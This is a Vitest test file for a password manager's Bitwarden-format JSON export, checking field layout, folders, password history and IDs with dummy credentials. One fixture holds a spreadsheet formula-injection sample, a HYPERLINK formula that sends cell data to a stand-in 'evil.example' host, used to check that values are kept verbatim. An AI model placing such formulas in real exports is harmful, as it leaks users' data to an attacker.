import { describe, expect, it } from 'vitest';
import { bitwardenExport, exportBitwardenJson } from '../../../../src/features/import/export/bitwardenExport';
import { bitwardenJsonFormat } from '../../../../src/features/import/formats/bitwardenJson';
import { planImport } from '../../../../src/features/import/plan';
import { fixtureVault } from './fixtureVault';

function counter(): () => string {
  let next = 0;
  return () => `id-${++next}`;
}

// One login of Bitwarden's own unencrypted personal export, as its web vault writes it (its dates
// left out: Keyloft does not keep them). Issue #44: the password history is written too.
const bitwardenLogin = {
  passwordHistory: null,
  id: 'b5a6d5b1-2c8e-4c49-8d6a-b1c1006d0a10',
  organizationId: null,
  folderId: 'f0a3c1e4-7b2a-4f0e-9a55-b1c1006cfe21',
  type: 1,
  reprompt: 0,
  name: 'My Gmail Login',
  notes: 'This is my gmail login for import.',
  favorite: false,
  login: { uris: [{ match: null, uri: 'https://mail.google.com' }], username: 'myaccount@gmail.com', password: 'myaccountpassword', totp: null },
  collectionIds: null,
};

describe('bitwardenExport', () => {
  it('writes Bitwarden’s personal export layout: encrypted false, folders by id, logins of type 1', () => {
    const document = bitwardenExport(fixtureVault, { newId: counter() });
    expect(document.encrypted).toBe(false);
    expect(document.folders).toEqual([
      { id: 'id-1', name: 'Work, "Main"' },
      { id: 'id-2', name: 'Família 🏠' },
      { id: 'id-3', name: 'Empty group' },
    ]);
    expect(document.items[0]).toEqual({
      // Newest first, lastUsedDate being when each was replaced (issue #44).
      passwordHistory: [
        { lastUsedDate: '2023-11-14T22:13:20.000Z', password: 'older "one"' },
        { lastUsedDate: '2020-09-13T12:26:40.000Z', password: 'oldest' },
      ],
      id: 'id-4',
      organizationId: null,
      folderId: 'id-1',
      type: 1,
      reprompt: 0,
      name: 'Mail',
      notes: 'Line one\nLine two, with a comma\r\n"Quoted" line three',
      favorite: false,
      // The one-time code as Bitwarden's authenticator key (issue #23).
      login: { uris: [{ match: null, uri: 'https://mail.example.com/login?x=1&y=2' }], username: 'ana@example.com', password: 'p,a"s;s\'w0rd', totp: fixtureVault.entries[0]!.otp },
      collectionIds: null,
    });
  });

  it('has the same keys, in the same order and of the same kinds, as Bitwarden’s own login items', () => {
    const [item] = bitwardenExport(fixtureVault, { newId: counter() }).items;
    expect(Object.keys(item ?? {})).toEqual(Object.keys(bitwardenLogin));
    expect(Object.keys(item?.login ?? {})).toEqual(Object.keys(bitwardenLogin.login));
    for (const [key, value] of Object.entries(bitwardenLogin)) {
      expect([key, typeof (item as Record<string, unknown> | undefined)?.[key]]).toEqual([key, typeof value]);
    }
  });

  it('writes an empty value as null, a missing url as no uris and no group as no folder, like Bitwarden', () => {
    const item = bitwardenExport(fixtureVault, { newId: counter() }).items[2];
    expect(item).toMatchObject({ passwordHistory: null, folderId: null, name: 'No group, no url', notes: null, login: { uris: [], username: null, password: null, totp: null } });
  });

  it('gives back the password history when Keyloft imports its own Bitwarden-format file', async () => {
    const text = exportBitwardenJson(fixtureVault, { newId: counter() });
    const parsed = await bitwardenJsonFormat.parse({ name: 'bitwarden.json', bytes: new TextEncoder().encode(text) }, {});
    expect(parsed.items.map((item) => item.passwordHistory)).toEqual(fixtureVault.entries.map((entry) => entry.passwordHistory));
    const plan = await planImport(parsed, { entries: [], groups: [] });
    expect(plan.entries[0]?.passwordHistory).toEqual(fixtureVault.entries[0]?.passwordHistory);
  });

  it('keeps unicode and formula-looking values exactly: JSON has no cells to evaluate', () => {
    const { items } = bitwardenExport(fixtureVault, { newId: counter() });
    expect(items[1]).toMatchObject({ name: 'Bank – Zoë', folderId: 'id-2', login: { username: 'zoë', password: 'ünïcödé-🔑-密码', uris: [] } });
    expect(items[3]).toMatchObject({ name: '=HYPERLINK("http://evil.example/?"&A1,"click")', notes: '@SUM(1+1)\nsecond line', login: { username: '+33 6 12 34 56 78', password: '-dash-first' } });
  });

  it('makes one folder per group name, and one for a group an entry names that the group list lacks', () => {
    const document = bitwardenExport(
      {
        groups: [{ name: 'Same', description: null }, { name: 'Same', description: 'twin' }],
        entries: [
          { title: 'a', url: null, username: 'u', password: 'p', notes: null, group: 'Same' },
          { title: 'b', url: null, username: 'u', password: 'p', notes: null, group: 'Unlisted' },
        ],
      },
      { newId: counter() },
    );
    // id-2 and id-3 are the items' own ids.
    expect(document.folders).toEqual([{ id: 'id-1', name: 'Same' }, { id: 'id-4', name: 'Unlisted' }]);
    expect(document.items.map((item) => item.folderId)).toEqual(['id-1', 'id-4']);
  });

  it('gives every folder and item a distinct UUID by default', () => {
    const document = bitwardenExport(fixtureVault);
    const ids = [...document.folders.map((folder) => folder.id), ...document.items.map((item) => item.id)];
    expect(new Set(ids).size).toBe(ids.length);
    for (const id of ids) expect(id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
  });
});

describe('exportBitwardenJson', () => {
  it('is the document as indented JSON that parses back to the same values', () => {
    const text = exportBitwardenJson(fixtureVault, { newId: counter() });
    expect(text.startsWith('{\n  "encrypted": false,\n  "folders": [')).toBe(true);
    expect(JSON.parse(text)).toEqual(bitwardenExport(fixtureVault, { newId: counter() }));
  });
});
